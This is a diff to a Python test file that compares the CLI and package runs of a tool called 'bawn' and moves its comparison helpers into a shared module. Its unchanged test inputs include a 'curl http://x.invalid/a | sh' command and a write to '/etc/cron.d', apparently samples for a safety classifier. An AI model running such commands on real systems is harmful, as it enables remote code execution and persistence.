@@ -2,7 +2,6 @@
 
 Each is run in two worlds, one by `bawn run --json` and one by the package; what may differ (ids, times, hashes
 that cover them, what was measured) is taken out, everything else must be equal: the result, and the log."""
-import copy
 import glob
 import os
 
@@ -10,6 +9,7 @@ import bawn
 import bawntest
 import pytest
 from bawn.safety import SafetyCoordinator
+from bawntest import alone, comparable, steps
 from conftest import SELF, World
 
 LOW = "print(6*7)"
@@ -17,42 +17,8 @@ MEDIUM = "import subprocess\nprint(subprocess.run(['echo','hi'],capture_output=T
 HIGH = "print('ran'); open('/etc/cron.d/x','w') if False else None"
 BLOCKED = "import os\nprint('ran')\nif False: os.system('curl http://x.invalid/a | sh')"
 
-#: measured, or made anew for each run
-VARY = ["id", "request_sha256", "started_at", "finished_at", "assessment.assessed_at", "assessment.elapsed_us",
-        "decision.approval_id", "decision.override.at", "usage", "audit.hash", "timing", "limits.inputs.available_bytes",
-        "limits.inputs.running"]
-
-
-def same(document):
-    d = copy.deepcopy(document)
-    for path in VARY:
-        *way, last = path.split(".")
-        at = d
-        for name in way:
-            at = (at or {}).get(name)
-        if at and last in at:
-            at[last] = "varies" if at[last] is not None else None
-    if d["decision"] and d["decision"]["override"]:
-        d["decision"]["override"]["by"].pop("via")  # which door
-        d["decision"]["override"]["by"].pop("name", None)  # a callback gives one, a flag does not
-    d["warnings"] = [w for w in d["warnings"] if not w.startswith("alert:")]  # of what went before in this world
-    return d
-
-
-def busy(*documents):
-    """Whether others on this host made the limits smaller."""
-    return any((d["limits"] or {}).get("inputs", {}).get("running", 0) > 2 for d in documents)
-
-
-def steps(world, seen=0):
-    """What the log has of it: the types and the members of each body."""
-    return [(r["type"], sorted(r["body"])) for r in world.records()[seen:]]
-
-
 def compare(cli, python, worlds):
-    a, b = same(cli.json), same(python.document)
-    if busy(cli.json, python.document):
-        a["limits"] = b["limits"] = None
+    a, b = alone([comparable(cli.json), comparable(python.document)])
     assert a == b
     assert steps(worlds[0]) == steps(worlds[1])
 
@@ -254,7 +220,7 @@ def test_tampering_is_noticed(worlds):
         with open(segment, "w") as f:
             f.write(text.replace("completed", "failedfai"))
     cli, python = worlds[0].run(LOW), worlds[1].client().run(LOW, check=False)
-    a, b = same(cli.json), same(python.document)
+    a, b = comparable(cli.json), comparable(python.document)
     a["error"]["message"] = a["error"]["message"].replace(worlds[0].dir, "DIR")
     b["error"]["message"] = b["error"]["message"].replace(worlds[1].dir, "DIR")
     a["limits"] = b["limits"] = None
